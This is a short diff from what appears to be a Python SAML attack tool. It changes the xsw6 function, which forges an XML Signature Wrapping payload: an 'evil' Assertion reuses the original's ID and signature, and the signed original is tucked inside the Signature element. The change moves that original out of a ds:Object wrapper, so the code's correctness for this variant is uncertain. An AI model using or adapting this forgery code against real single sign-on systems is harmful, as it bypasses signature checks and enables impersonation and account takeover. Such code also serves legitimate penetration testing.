@@ -102,14 +102,14 @@ def xsw5(root: etree._Element) -> etree._Element:
 
 
 def xsw6(root: etree._Element) -> etree._Element:
-    # The evil Assertion carries the signature, whose Object holds the original.
+    # The evil Assertion carries the signature; the original sits inside the Signature.
     assertion = root.find(q(SAML, "Assertion"))
     forged = evil(assertion, assertion.get("ID"))
     signature = copy.deepcopy(assertion.find(q(DS, "Signature")))
     forged.insert(1, signature)
     original = copy.deepcopy(assertion)
     original.remove(original.find(q(DS, "Signature")))
-    etree.SubElement(signature, q(DS, "Object")).append(original)
+    signature.append(original)
     root.replace(assertion, forged)
     return root
 
